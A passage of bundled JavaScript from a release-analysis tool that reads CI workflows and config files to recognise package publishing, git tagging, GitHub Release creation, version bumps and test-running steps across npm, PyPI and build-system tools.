        for (const part of (match[2] ?? match[6] ?? '').split(',')) {
            const [name, local] = part.split(/\s+as\s+|\s*:\s*/).map((word) => word.trim());
            const words = name ? library.calls[name] : undefined;
            if (words)
                functions.set(local || name, words);
        }
    }
    return functions;
}
/** A template literal's `${...}` (one level): `${dryRun ? ['--dry-run'] : []}`, `${tag}`. */
const INTERPOLATION = /\$\{[^{}]*\}/g;
/**
 * What a command keeps of an interpolated value: a dry-run flag put in only under a condition
 * (`${dry ? '--dry-run' : ''}`) is MAYBE_DRY_RUN, read with the env of the step that runs it.
 */
function interpolated(value) {
    return /--dry-?run\b/.test(value) ? MAYBE_DRY_RUN : 'VALUE';
}
/** Stands for a dry-run flag a script adds when its environment asks for one. */
const MAYBE_DRY_RUN = '--dry-run-if-asked';
function codeCommands(path, text) {
    const commands = [];
    const lines = text.split('\n');
    const functions = libraryFunctions(lines);
    const called = functions.size === 0
        ? undefined
        : new RegExp(`(?<![\\w.])(${[...functions.keys()].join('|')})\\s*\\(`, 'g');
    lines.forEach((line, index) => {
        const origin = `${path}:${index + 1}`;
        if (/^\s*(\/\/|#|\*)/.test(line))
            return;
        if (called !== undefined && !IMPORT.test(line))
            for (const match of line.matchAll(called)) {
                const words = functions.get(match[1]);
                const options = callArguments(lines, index, match.index + match[0].length);
                commands.push({
                    text: line.trim(),
                    words: DRY_RUN_OPTION.test(options) ? [...words, '--dry-run'] : words,
                    origin,
                });
            }
        for (const match of line.matchAll(TOOL_AND_ARRAY))
            commands.push({ text: line.trim(), words: [match[2], ...quoted(match[3])], origin });
        for (const match of line.matchAll(ARRAY_COMMAND)) {
            const words = [match[3], ...quoted(match[4])];
            if (!commands.some((each) => each.origin === origin && each.words.join(' ') === words.join(' ')))
                commands.push({ text: line.trim(), words, origin });
        }
        for (const match of line.replace(INTERPOLATION, interpolated).matchAll(STRING_COMMAND))
            for (const command of (0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(match[2]))
                commands.push({ ...command, text: line.trim(), origin });
    });
    return commands;
}
/** A library call's own `dryRun: true` option (`'dry-run': true` for release-it): a dry run. */
const DRY_RUN_OPTION = /(?<![\w$])(dryRun|(['"])dry-run\2)\s*:\s*true\b/;
/**
 * The text of a call's arguments, from just after its `(` to the `)` that closes it (or the end
 * of the 50 lines read): `semanticRelease({ dryRun: true, ... })` over several lines.
 */
function callArguments(lines, index, from) {
    let depth = 1;
    let text = '';
    for (const [at, line] of lines.slice(index, index + 50).entries()) {
        const rest = at === 0 ? line.slice(from) : line;
        for (let offset = 0; offset < rest.length; offset += 1) {
            if (rest[offset] === '(')
                depth += 1;
            else if (rest[offset] === ')')
                depth -= 1;
            if (depth === 0)
                return text + rest.slice(0, offset);
        }
        text += `${rest}\n`;
    }
    return text;
}
function quoted(list) {
    return [...list.matchAll(QUOTED)].map((match) => match[2]);
}
/**
 * `release publish` of @ossjs/release runs the `use` command of a profile of release.config.json
 * (`--profile`, else `latest`), or the root-level `use` of its earlier releases, or the `script`
 * of the earliest ones' ossjs.release.config.js (read, never run: a string literal only): its
 * commands, each at its line of the file. Undefined for any other command (and when the
 * repository does not use that tool); [] when no command is read.
 */
function releaseProfileCommands(tool, files, cwd) {
    if (tool[0] !== 'release' || tool[1] !== 'publish' || !usesOssjsRelease(files, cwd))
        return undefined;
    const flag = tool.findIndex((word) => word === '--profile' || word === '-p');
    const wanted = (flag >= 0 ? tool[flag + 1] : tool.find((word) => word.startsWith('--profile='))?.slice(10)) ??
        'latest';
    const path = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .joinPath */ .uJ)(cwd, 'release.config.json');
    const text = files.read(path);
    if (text === undefined)
        return scriptOfJsConfig(files, cwd, wanted);
    let config;
    try {
        config = JSON.parse(text);
    }
    catch {
        return [];
    }
    const profiles = config?.profiles;
    const use = Array.isArray(profiles)
        ? profiles.find((each) => each?.name === wanted)?.use
        : config?.use;
    if (typeof use !== 'string')
        return [];
    const lines = text.split('\n');
    const at = lines.findIndex((line) => /"use"\s*:/.test(line) && line.includes(JSON.stringify(use).slice(1, -1)));
    return configuredCommands(use, `${path}:${at < 0 ? 1 : at + 1}`);
}
function configuredCommands(command, origin) {
    return (0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(command).map((each) => ({ ...each, origin }));
}
/** A string literal: '...', "..." or a template without `${}`. */
const STRING_LITERAL = String.raw `(?:'((?:\\.|[^'\\\n])*)'|"((?:\\.|[^"\\\n])*)"|${'`'}((?:\\.|[^${'`'}\\$])*)${'`'})`;
/**
 * ossjs.release.config.js (`module.exports = { script: 'npm publish' }`, or a profile's `use`
 * in the same shape as release.config.json): read as text, never run. Anything but one plain
 * string literal (a variable, a function call, two candidates) reads as nothing: [].
 */
function scriptOfJsConfig(files, cwd, wanted) {
    const path = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .joinPath */ .uJ)(cwd, 'ossjs.release.config.js');
    const text = files.read(path);
    if (text === undefined || !/(module\.exports\s*=|export\s+default)\s*\{/.test(text))
        return [];
    const code = text.replace(/^\s*\/\/.*$/gm, (line) => ' '.repeat(line.length));
    const literal = (match, from) => (match[from] ?? match[from + 1] ?? match[from + 2]).replace(/\\(.)/g, '$1');
    const lineOf = (index) => code.slice(0, index).split('\n').length;
    const scripts = [
        ...code.matchAll(new RegExp(String.raw `(?:^|[{,\s])['"]?script['"]?\s*:\s*${STRING_LITERAL}\s*[,}\n]`, 'g')),
    ];
    const profiles = [
        ...code.matchAll(new RegExp(String.raw `\{[^{}]*?\bname\s*:\s*${STRING_LITERAL}[^{}]*?\buse\s*:\s*${STRING_LITERAL}[^{}]*\}`, 'g')),
    ].filter((match) => literal(match, 1) === wanted);
    const found = [
        ...scripts.map((match) => ({
            command: literal(match, 1),
            index: match.index + match[0].search(/script/),
        })),
        ...profiles.map((match) => ({
            command: literal(match, 4),
            index: match.index + match[0].search(/\buse\s*:/),
        })),
    ];
    if (found.length !== 1)
        return [];
    return configuredCommands(found[0].command, `${path}:${lineOf(found[0].index)}`);
}
/** The package.json of the folder (or of the repository) lists @ossjs/release. */
function usesOssjsRelease(files, cwd = '') {
    for (const dir of new Set([cwd, ''])) {
        const text = files.read((0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .joinPath */ .uJ)(dir, 'package.json'));
        if (text === undefined)
            continue;
        try {
            const manifest = JSON.parse(text);
            for (const field of ['dependencies', 'devDependencies'])
                if (Object.hasOwn(manifest[field] ?? {}, '@ossjs/release'))
                    return true;
        }
        catch {
            // not JSON: not read
        }
    }
    return false;
}


/***/ }),

/***/ 95825:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  oS: () => (/* binding */ isTestCommand),
  ZU: () => (/* binding */ publishesOf),
  SX: () => (/* binding */ tagCreationsOf),
  G$: () => (/* binding */ testsRunBy),
  zt: () => (/* binding */ versionComputedBy)
});

// UNUSED EXPORTS: INLINE_NPM_TOKEN, MAYBE_DRY_RUN, PACKAGE_MANAGERS, PUBLISHERS, REGISTRIES, REGISTRY_NAMES, RELEASE_IT_DEFAULTS, TAGGERS, TEST_RUNNERS, TEST_SCRIPT, VERSION_COMPUTERS, actionMatches, actionName, calledScript, commandMatches, commandSubject, commandsIn, credentialPaths, ecosystemOfUrl, envValue, findHits, flattenedScript, gitPushToken, has, isGithubToken, isRegistryName, isRegistryTokenVariable, isScriptParsed, isTestCommandIn, isTokenVariable, localPath, nameOf, operands, pmSubcommand, publishesIn, readRegistrySpelling, registryOfUrl, registryTitle, releaseItSetting, releaseProfileCommands, rememberParsedScript, runsPackageManager, scriptCommands, scriptName, stepCommands, stepContext, stepInput, tagCreationsIn, testsRunIn, tokenOfValue, toolWords, usesOssjsRelease, versionComputedIn

// EXTERNAL MODULE: ./packages/release-tools/src/commands.ts
var commands = __webpack_require__(26833);
// EXTERNAL MODULE: ./packages/release-tools/src/step.ts
var src_step = __webpack_require__(68449);
;// CONCATENATED MODULE: ./packages/release-tools/src/detectors.ts
// The shape of a table entry (what a step must look like, what it then means) and the one
// matcher that reads every table. The entries live in tools/<ecosystem>.ts.


function wordMatches(pattern, word) {
    if (word === undefined)
        return false;
    if (typeof pattern === 'string')
        return pattern === word;
    if (pattern instanceof RegExp)
        return pattern.test(word);
    return pattern.includes(word);
}
function actionMatches(match, step, context) {
    const name = (0,src_step/* actionName */.aM)(step.uses);
    const local = (0,src_step/* localPath */.$S)(step.uses);
    const named = name !== '' &&
        match.name !== undefined &&
        (typeof match.name === 'string' ? match.name === name : match.name.test(name));
    const isLocal = local !== undefined && match.local !== undefined && match.local.test(local);
    return (named || isLocal) && (match.when?.(step, context) ?? true);
}
/** The subject of a command, and whether `match` recognises it. */
function commandSubject(command, step, context) {
    const words = command.words;
    const packageManager = (0,commands/* runsPackageManager */.cr)(words);
    const args = packageManager ? words : (0,commands/* toolWords */.yy)(words);
    const tool = packageManager ? [words[0], ...(0,commands/* operands */.bw)(words.slice(1))] : args;
    return { step, context, words, tool, args, packageManager };
}
function commandMatches(match, subject) {
    if ((match.packageManager ?? false) !== subject.packageManager)
        return false;
    if (!match.words.every((pattern, index) => wordMatches(pattern, subject.tool[index])))
        return false;
    if (match.unless && (0,commands/* has */.zy)(subject.args, ...match.unless))
        return false;
    if (match.containing && !(0,commands/* has */.zy)(subject.args, ...match.containing))
        return false;
    return match.when?.(subject) ?? true;
}
/**
 * Every hit of a table on a step: the first action entry that matches its `uses:`, then for
 * each command of its script the first command entry that matches (one step may do several
 * things: `npm publish && twine upload`).
 */
function findHits(table, step, context, skipCommand = () => false) {
    const hits = [];
    if (step.uses !== undefined) {
        const entry = table.find((each) => each.action && actionMatches(each.action, step, context));
        if (entry)
            hits.push({
                entry,
                subject: { step, context, words: [], tool: [], args: [] },
                needle: step.uses,
            });
    }
    for (const command of (0,commands/* stepCommands */.Bs)(step, context.scripts, context.files)) {
        if (skipCommand(command))
            continue;
        const subject = commandSubject(command, step, context);
        const entry = table.find((each) => each.command && commandMatches(each.command, subject));
        if (entry)
            hits.push({ entry, subject, needle: command.text, origin: command.origin });
    }
    return hits;
}
function nameOf(name, hit) {
    const own = name === undefined ? hit.needle : typeof name === 'string' ? name : name(hit.subject);
    // A command of a repository script the step runs: say where it is.
    return hit.origin === undefined ? own : `${own} in ${hit.origin}`;
}

;// CONCATENATED MODULE: ./packages/release-tools/src/test-runners.ts
// Test runners: the steps that run a project's tests (a test gate must see them run on the
// release commit). Entries are in tools/<ecosystem>.ts.


/**
 * Script and target names that mean tests: `test`, `test:unit`, `check`, `e2e`... but not the
 * CI steps that only install, build or release (`ci:install`, `ci:publish`, `ci:shipit`).
 */
const TEST_SCRIPT = /^(?!.*[:_.-](install|setup|bootstrap|build|publish|release|version|shipit|deploy)$)(test|tests|ci|check|checks|verify|e2e|unit|integration|coverage)([:_.-].*)?$/i;
/** The `uses:` or command by which a step runs tests, if it does. */
function testsRunIn(table, step, context) {
    return findHits(table, step, context)[0]?.needle;
}
/** Whether one command runs tests. */
function isTestCommandIn(table, command, step, context) {
    const subject = commandSubject(command, step, context);
    return table.some((entry) => entry.command && commandMatches(entry.command, subject));
}

;// CONCATENATED MODULE: ./packages/release-tools/src/tools/build-systems.ts
// Language toolchains and task runners whose test commands gate a release: go, cargo, deno,
// dotnet, swift, make, just, Maven and Gradle; and a repository's own test script.

/**
 * A repository script named for tests, started by its path (`./test.sh`, `scripts/test`,
 * `bin/check.bash`): its name minus `.sh`/`.bash` is a test name. A script named `ci` may as
 * well build or release, so it is not one; nor is a bare `test`, the shell's own command.
 */
function isTestScriptPath(path) {
    if (path === undefined || !path.includes('/') || path.includes('$'))
        return false;
    const name = path.slice(path.lastIndexOf('/') + 1).replace(/\.(sh|bash)$/, '');
    return TEST_SCRIPT.test(name) && !/^ci$/i.test(name);
}
const BUILD_SYSTEM_TEST_RUNNERS = [
    { command: { words: [['go', 'cargo', 'deno', 'dotnet', 'swift'], 'test'] } },
    { command: { words: [['make', 'just'], TEST_SCRIPT] } },
    { command: { words: [['mvn', './mvnw']], containing: ['test', 'verify'] } },
    { command: { words: [['gradle', './gradlew']], containing: ['test', 'check'] } },
    { command: { words: [/\//], when: ({ tool }) => isTestScriptPath(tool[0]) } },
    {
        command: {
            words: [['bash', 'sh'], /\.(sh|bash)$/],
            when: ({ tool }) => isTestScriptPath(tool[1].includes('/') ? tool[1] : `./${tool[1]}`),
        },
    },
];

;// CONCATENATED MODULE: ./packages/release-tools/src/tools/github.ts
// git tags and GitHub Releases: git, gh, hub, the REST API by gh api or curl, and the release
// actions (softprops/action-gh-release, release-please, tag actions, github-script); dates and
// `git describe` as versions.

/** Words that make `git tag` list, delete or verify tags rather than create one. */
const GIT_TAG_READS = [
    '-l',
    '--list',
    '-d',
    '--delete',
    '-v',
    '--verify',
    '--contains',
    '--points-at',
    '-n',
    '--merged',
    '--no-merged',
    '--sort',
];
const GH_TOKEN_ENV = { env: ['GH_TOKEN', 'GITHUB_TOKEN'] };
/** A `gh api` or `curl` that POSTs, and so creates what its URL names. */
function posts({ args }) {
    const text = ` ${args.join(' ')} `;
    return args[0] === 'gh'
        ? /(-X|--method)\s+POST|\s-[fF]\s|--field|--raw-field|--input/.test(text)
        : /(-X|--request)\s*POST|\s(-d|--data\S*)\s/.test(text);
}
const postsRelease = (subject) => posts(subject) &&
    /\/releases(\s|$|\?|')/.test(`${subject.args.join(' ')} `) &&
    !/"?draft"?\s*[:=]\s*true/.test(subject.args.join(' '));
const postsTagRef = (subject) => {
    const text = subject.args.join(' ');
    return posts(subject) && /\/git\/refs/.test(text) && /refs\/tags/.test(text);
};
/** `draft: true` on a release action: a draft, published later by a person, is no release yet. */
const isDraft = ({ step }) => /^true$/i.test((0,src_step/* stepInput */.rj)(step, 'draft')?.trim() ?? '');
/** Release and tag actions: what they make and the inputs that carry their token. */
function releaseAction(name, kind, inputs, env = false) {
    return {
        action: { name },
        kind: kind === 'release' ? (subject) => (isDraft(subject) ? undefined : kind) : kind,
        token: env ? { inputs, env: ['GITHUB_TOKEN', 'GH_TOKEN'] } : { inputs },
    };
}
/**
 * release-please-action: a GitHub Release (and its tag) unless `skip-github-release: true`, or
 * v3's `command:` asks only for the release pull request.
 */
function releasePlease(name) {
    return {
        action: { name },
        kind: ({ step }) => {
            if (/^true$/i.test((0,src_step/* stepInput */.rj)(step, 'skip-github-release')?.trim() ?? ''))
                return undefined;
            const command = (0,src_step/* stepInput */.rj)(step, 'command')?.trim() ?? '';
            return /^(release-pr|manifest-pr)$/.test(command) ? undefined : 'release';
        },
        token: { inputs: ['token'] },
    };
}
const GITHUB_TAGGERS = [
    {
        tool: 'git tag',
        command: { words: ['git', 'tag'], unless: GIT_TAG_READS, when: ({ args }) => args.length > 2 },
        kind: 'tag',
        token: 'git-push',
        needsPush: true,
    },
    {
        tool: 'git push --tags',
        command: { words: ['git', 'push'], containing: ['--tags', '--follow-tags'] },
        kind: 'tag',
        token: 'git-push',
    },
    {
        tool: 'gh release create',
        // A draft is not a release: a person publishes it later (which fires `release: published`),
        // and its tag is only made then.
        command: { words: ['gh', 'release', 'create'], unless: ['--draft', '-d', '--draft=true'] },
        kind: 'release',
        token: GH_TOKEN_ENV,
    },
    {
        tool: 'hub release create',
        command: { words: ['hub', 'release', 'create'] },
        kind: 'release',
        token: 'other',
    },
    {
        tool: 'gh POST /releases',
        command: { words: ['gh', 'api'], when: postsRelease },
        kind: 'release',
        token: GH_TOKEN_ENV,
    },
    {
        tool: 'gh POST /git/refs',
        command: { words: ['gh', 'api'], when: postsTagRef },
        kind: 'tag',
        token: GH_TOKEN_ENV,
    },
    {
        tool: 'curl POST /releases',
        command: { words: ['curl'], when: postsRelease },
        kind: 'release',
        token: 'other',
    },
    {
        tool: 'curl POST /git/refs',
        command: { words: ['curl'], when: postsTagRef },
        kind: 'tag',
        token: 'other',
    },
    releaseAction('softprops/action-gh-release', 'release', ['token']),
    releaseAction('ncipollo/release-action', 'release', ['token']),
    releaseAction('actions/create-release', 'release', [], true),
    // aio-libs/create-release: the GitHub Release (and its tag) of the version its file names.
    releaseAction('aio-libs/create-release', 'release', ['github_token']),
    releaseAction('marvinpinto/action-automatic-releases', 'release', ['repo_token']),
    releasePlease('googleapis/release-please-action'),
    releasePlease('google-github-actions/release-please-action'),
    // release-please-action's first home, which GitHub still redirects to googleapis/.
    releasePlease('googlecloudplatform/release-please-action'),
    releaseAction('rickstaa/action-create-tag', 'tag', ['github_token']),
    releaseAction('mathieudutour/github-tag-action', 'tag', ['github_token']),
    releaseAction('anothrnick/github-tag-action', 'tag', [], true),
    {
        tool: 'actions/github-script',
        action: { name: 'actions/github-script' },
        kind: ({ step }) => {
            const script = (0,src_step/* stepInput */.rj)(step, 'script') ?? '';
            if (/\bcreateRelease\s*\(/.test(script))
                return /\bdraft\s*:\s*true\b/.test(script) ? undefined : 'release';
            return /\bcreateRef\s*\(|\bcreateTag\s*\(/.test(script) ? 'tag' : undefined;
        },
        token: { inputs: ['github-token'] },
    },
];
const GITHUB_VERSION_COMPUTERS = [
    { what: 'date', handsOn: true, command: { words: ['date'] } },
    { what: 'version', handsOn: true, command: { words: ['git', 'describe'] } },
];

// EXTERNAL MODULE: ./packages/release-tools/src/package-scripts.ts
var package_scripts = __webpack_require__(10722);
// EXTERNAL MODULE: ./packages/release-tools/src/followed-scripts.ts
var followed_scripts = __webpack_require__(33734);
;// CONCATENATED MODULE: ./packages/release-tools/src/tools/npm.ts
// npm, pnpm, yarn and bun, and the release tools of the npm world: changesets, semantic-release,
// lerna, release-it, nx release, changelogen, JS-DevTools/npm-publish.




const MANAGERS = [...package_scripts/* PACKAGE_MANAGERS */.Ab];
const NPM_TOKEN = { env: true };
const GITHUB_TOKEN_ENV = { env: ['GITHUB_TOKEN', 'GH_TOKEN'] };
/** changesets/action publishes when given a publish command: `publish:` (v1), `publish-script:` (v2). */
const changesetsPublishes = (step) => !!((0,src_step/* stepInput */.rj)(step, 'publish') || (0,src_step/* stepInput */.rj)(step, 'publish-script'));
/** One release-it setting as its command line leaves it: `--no-npm`, `--no-git.tag`, `--github.release`. */
function releaseItSetting(tool, key, configured) {
    const parent = key.split('.')[0];
    let value = configured;
    for (const word of tool) {
        if (word === `--no-${parent}` || word === `--no-${key}`)
            value = false;
        else if (word === `--${key}` || word === `--${key}=true`)
            value = true;
        else if (word === `--${key}=false`)
            value = false;
    }
    return value;
}
function releaseItKind({ args, context }) {
    const settings = context.releaseIt;
    if (releaseItSetting(args, 'github.release', settings.githubRelease))
        return 'release';
    return releaseItSetting(args, 'git.tag', settings.gitTag) ? 'tag' : undefined;
}
const npmCommand = (tool, command) => ({ tool, command, ecosystem: 'npm', registry: 'npm', token: NPM_TOKEN });
const NPM_PUBLISHERS = [
    {
        tool: ({ tool }) => `${tool[0]} publish`,
        command: { packageManager: true, words: [MANAGERS, 'publish'], unless: ['--help', '-h'] },
        ecosystem: 'npm',
        registry: 'npm-command',
        token: NPM_TOKEN,
        provenance: { flag: '--provenance' },
    },
    {
        // `yarn npm publish` (yarn berry) and `pnpm recursive publish`.
        tool: ({ tool }) => `${tool[0]} publish`,
        command: {
            packageManager: true,
            words: [['yarn', 'pnpm'], ['npm', 'recursive'], 'publish'],
            unless: ['--help', '-h'],
        },
        ecosystem: 'npm',
        registry: 'npm-command',
        token: NPM_TOKEN,
        provenance: { flag: '--provenance' },
    },
    {
        // npm >= 11.15: `npm stage publish` uploads a staged version that a person then approves.
        // pnpm hands `stage` to npm (`pnpm -r stage publish` stages every workspace package).
        tool: ({ tool }) => `${tool[0]} stage publish`,
        command: {
            packageManager: true,
            words: [['npm', 'pnpm'], 'stage', 'publish'],
            unless: ['--help', '-h'],
        },
        ecosystem: 'npm',
        registry: 'npm-command',
        token: NPM_TOKEN,
        provenance: { flag: '--provenance' },
    },
    npmCommand('changeset publish', { words: ['changeset', 'publish'] }),
    npmCommand(({ tool }) => tool[0], {
        words: [['semantic-release', 'multi-semantic-release']],
        unless: ['-d'],
    }),
    npmCommand('lerna publish', { words: ['lerna', 'publish'] }),
    // unjs's changelogen publishes (`npm publish`, or pnpm's) only when told to.
    npmCommand('changelogen --publish', { words: ['changelogen'], containing: ['--publish'] }),
    // @ossjs/release runs the `use` command of its profile (followed from release.config.json, or
    // the `script` of ossjs.release.config.js);
    // with no profile read, `release publish` is still a publish to npm.
    npmCommand('release publish', {
        words: ['release', 'publish'],
        unless: ['--dry-run', '-d'],
        when: ({ tool, context }) => context.files !== undefined &&
            (0,followed_scripts/* usesOssjsRelease */.O8)(context.files) &&
            (0,followed_scripts/* releaseProfileCommands */.Df)(tool, context.files, '')?.length === 0,
    }),
    npmCommand('release-it', {
        words: ['release-it'],
        when: ({ args, context }) => releaseItSetting(args, 'npm.publish', context.releaseIt.npmPublish),
    }),
    npmCommand(({ tool }) => (tool[2] === 'publish' ? 'nx release publish' : 'nx release'), {
        words: ['nx', 'release'],
        unless: ['--skip-publish', '-d'],
        when: ({ tool }) => !['version', 'changelog', 'plan', 'plan:check'].includes(tool[2] ?? ''),
    }),
    {
        tool: 'JS-DevTools/npm-publish',
        action: { name: 'js-devtools/npm-publish' },
        ecosystem: 'npm',
        registry: { inputs: ['registry'], default: 'npm' },
        token: { inputs: ['token'] },
        provenance: { input: 'provenance', inputDefault: false },
    },
    {
        tool: 'changesets/action',
        action: { name: 'changesets/action', when: changesetsPublishes },
        ecosystem: 'npm',
        registry: 'npm',
        token: NPM_TOKEN,
    },
    {
        // v2's publish sub-action: it publishes whatever its inputs say, no `publish:` script.
        tool: 'changesets/action/publish',
        action: { name: 'changesets/action/publish' },
        ecosystem: 'npm',
        registry: 'npm',
        token: NPM_TOKEN,
    },
    {
        tool: ({ step }) => (0,src_step/* actionName */.aM)(step.uses),
        action: { name: /^(cycjimmy|codfish)\/semantic-release-action$/ },
        ecosystem: 'npm',
        registry: 'npm',
        token: NPM_TOKEN,
    },
];
const NPM_TAGGERS = [
    {
        tool: 'npm version',
        command: {
            packageManager: true,
            words: ['npm', 'version'],
            unless: ['--no-git-tag-version', '--git-tag-version=false'],
        },
        kind: 'tag',
        token: 'git-push',
        needsPush: true,
    },
    {
        tool: ({ tool }) => `changeset ${tool[1]}`,
        command: { words: ['changeset', ['publish', 'tag']] },
        kind: 'tag',
        token: 'git-push',
        needsPush: true,
    },
    {
        tool: ({ tool }) => `lerna ${tool[1]}`,
        // A canary publishes only to the registry; `from-package` and `from-git` publish versions
        // already bumped (and tagged); without git tagging or pushing no tag reaches the remote.
        command: {
            words: ['lerna', ['publish', 'version']],
            unless: ['--canary', '-c', '--no-git-tag-version', '--no-push', 'from-package', 'from-git'],
        },
        kind: 'tag',
        token: 'git-push',
    },
    {
        tool: 'release-it',
        command: { words: ['release-it'], unless: ['-d', '--dry-run'] },
        kind: releaseItKind,
        token: GITHUB_TOKEN_ENV,
    },
    {
        tool: ({ tool }) => tool[0],
        command: {
            words: [['semantic-release', 'multi-semantic-release']],
            unless: ['-d', '--dry-run'],
        },
        kind: 'release',
        token: GITHUB_TOKEN_ENV,
    },
    {
        // @ossjs/release tags the release commit, pushes it and creates the GitHub Release.
        tool: 'release publish',
        command: {
            words: ['release', 'publish'],
            unless: ['--dry-run', '-d'],
            when: ({ context }) => context.files !== undefined && (0,followed_scripts/* usesOssjsRelease */.O8)(context.files),
        },
        kind: 'release',
        token: GITHUB_TOKEN_ENV,
    },
    {
        action: { name: /^(cycjimmy|codfish)\/semantic-release-action$/ },
        kind: 'release',
        token: GITHUB_TOKEN_ENV,
    },
    {
        action: {
            name: 'changesets/action',
            when: (step) => changesetsPublishes(step) && (0,src_step/* stepInput */.rj)(step, 'createGithubReleases') !== 'false',
        },
        kind: 'release',
        token: GITHUB_TOKEN_ENV,
    },
];
const VERSION_BUMPS = [
    'major',
    'minor',
    'patch',
    'premajor',
    'preminor',
    'prepatch',
    'prerelease',
    'from-git',
];
const NPM_VERSION_COMPUTERS = [
    { what: 'version', command: { packageManager: true, words: ['npm', 'version', VERSION_BUMPS] } },
    { what: 'version', command: { words: [['standard-version', 'commit-and-tag-version']] } },
    {
        // `semantic-release --dry-run` to read the next version: computed here, released later.
        what: 'version',
        handsOn: true,
        command: { words: ['semantic-release'], containing: ['--dry-run', '-d'] },
    },
];
const NPM_TEST_RUNNERS = [
    { command: { packageManager: true, words: [MANAGERS, ['test', 't', 'cit', 'install-test']] } },
    {
        command: {
            packageManager: true,
            words: [MANAGERS],
            when: ({ words }) => TEST_SCRIPT.test((0,commands/* scriptName */.vD)(words) ?? ''),
        },
    },
    {
        command: { words: [['jest', 'vitest', 'mocha', 'ava', 'tap', 'karma', 'cypress']] },
    },
    { command: { words: ['playwright', 'test'] } },
    // kcd-scripts runs jest; its `validate` runs lint, test and build.
    { command: { words: ['kcd-scripts', ['test', 'validate']] } },
];

;// CONCATENATED MODULE: ./packages/release-tools/src/tools/pypi.ts

const pythonCommand = (tool, words, flags) => ({
    tool,
    command: { words },
    ecosystem: 'pypi',
    registry: 'python-command',
    token: { env: true, flags },
});
const PYPI_PUBLISHERS = [
    pythonCommand('twine upload', ['twine', 'upload'], ['-p', '--password']),
    // `--trusted-publishing never` refuses OIDC: only a token can be left.
    pythonCommand('uv publish', ['uv', 'publish'], ['--token', '-t', '--password', '-p', 'never']),
    pythonCommand(({ tool }) => `${tool[0]} publish`, [['poetry', 'hatch', 'flit', 'pdm'], 'publish'], ['--password', '-p', '-u', '--username', '-a', '--auth']),
    pythonCommand(({ tool }) => `maturin ${tool[1]}`, ['maturin', ['publish', 'upload']], ['--password', '-p']),
    {
        // `python setup.py sdist upload`: distutils' upload takes a password, never OIDC.
        tool: 'setup.py upload',
        command: { words: [/^python3?$/, 'setup.py'], containing: ['upload'] },
        ecosystem: 'pypi',
        registry: 'python-command',
        token: { always: true },
    },
    {
        tool: 'pypa/gh-action-pypi-publish',
        action: { name: 'pypa/gh-action-pypi-publish' },
        ecosystem: 'pypi',
        registry: { inputs: ['repository-url', 'repository_url'], default: 'pypi' },
        token: { inputs: ['password'] },
    },
];
const PYPI_VERSION_COMPUTERS = [
    {
        // `poetry version patch`, `hatch version minor` (not `poetry version -s`, which reads).
        what: 'version',
        command: { words: [['poetry', 'hatch'], 'version', /^[^-]/] },
    },
    {
        what: 'version',
        command: { words: [['bump-my-version', 'bumpversion', 'bump2version']] },
    },
    { what: 'version', command: { words: ['cz', 'bump'] } },
];
/** tox environments and nox sessions that are tests: `py312`, `py`, `tests`, `unit`... */
const TEST_ENV = /^(py\d*(-.*)?|pypy\d*(-.*)?|\w*tests?\w*|unit\w*|integration\w*|coverage|cov)$/i;
/** `tox -e release-notes` runs no tests; `tox`, `tox -e py312`, `nox -s tests` do. */
function runsTestEnvironments({ args }) {
    const names = [];
    for (let index = 1; index < args.length; index++) {
        const word = args[index];
        const inline = /^(-e|--env|-s|--session|--sessions)=(.*)$/.exec(word);
        if (inline)
            names.push(...inline[2].split(','));
        else if (['-e', '--env', '-s', '--session', '--sessions', '-k'].includes(word))
            names.push(...(args[++index] ?? '').split(','));
    }
    if (names.length === 0)
        return true;
    return names.some((name) => TEST_ENV.test(name.trim()) || /\$|\{/.test(name));
}
/** cibuildwheel runs the tests its settings name (`CIBW_TEST_COMMAND`, pyproject's `test-command`). */
function cibuildwheelTests({ step, context }) {
    return (context.cibuildwheelTests === true ||
        Object.keys(step.env ?? {}).some((name) => /^CIBW_TEST_COMMAND/.test(name)) ||
        Object.keys(step.with ?? {}).some((name) => /^CIBW_TEST_COMMAND/.test(name)));
}
const PYPI_TEST_RUNNERS = [
    { command: { words: [['pytest', 'unittest']] } },
    { command: { words: [['tox', 'nox']], when: runsTestEnvironments } },
    { command: { words: ['cibuildwheel'], when: cibuildwheelTests } },
    {
        action: {
            name: 'pypa/cibuildwheel',
            when: (step, context) => context !== undefined && cibuildwheelTests({ step, context }),
        },
    },
    { command: { words: ['hatch', 'test'] } },
    { command: { words: ['hatch', 'run', TEST_SCRIPT] } },
];

;// CONCATENATED MODULE: ./packages/release-tools/src/tools/tokenless.ts
const TOKENLESS_PUBLISHERS = [
    {
        tool: 'tokenless publish-oidc',
        action: {
            name: /(^|\/)actions\/publish-oidc$|\/tokenless\/.*publish-oidc$/,
            local: /(^|\/)publish-oidc$/,
        },
        ecosystem: 'npm',
        registry: 'publish-oidc',
        token: {},
        provenance: { input: 'provenance', inputDefault: true },
        publishOidc: true,
    },
];
const TOKENLESS_TAGGERS = [
    {
        tool: 'tokenless create-release',
        action: { name: /tokenless.*(^|\/)create-release$/, local: /(^|\/)create-release$/ },
        kind: 'release',
        token: { inputs: ['token'] },
    },
];
const TOKENLESS_TEST_RUNNERS = [
    { action: { name: /(^|\/)test-gate$/, local: /(^|\/)test-gate$/ } },
];

;// CONCATENATED MODULE: ./packages/release-tools/src/tables.ts
// Every table, one list per kind of step. A new ecosystem is one file under tools/ and one line
// in each list it adds to; a new tool is one entry in its ecosystem's file.





const PUBLISHERS = [
    ...NPM_PUBLISHERS,
    ...PYPI_PUBLISHERS,
    ...TOKENLESS_PUBLISHERS,
];
const TAGGERS = [
    ...GITHUB_TAGGERS,
    ...NPM_TAGGERS,
    ...TOKENLESS_TAGGERS,
];
const VERSION_COMPUTERS = [
    ...GITHUB_VERSION_COMPUTERS,
    ...NPM_VERSION_COMPUTERS,
    ...PYPI_VERSION_COMPUTERS,
];
const TEST_RUNNERS = [
    ...NPM_TEST_RUNNERS,
    ...PYPI_TEST_RUNNERS,
    ...BUILD_SYSTEM_TEST_RUNNERS,
    ...TOKENLESS_TEST_RUNNERS,
];

// EXTERNAL MODULE: ./packages/release-tools/src/registries.ts
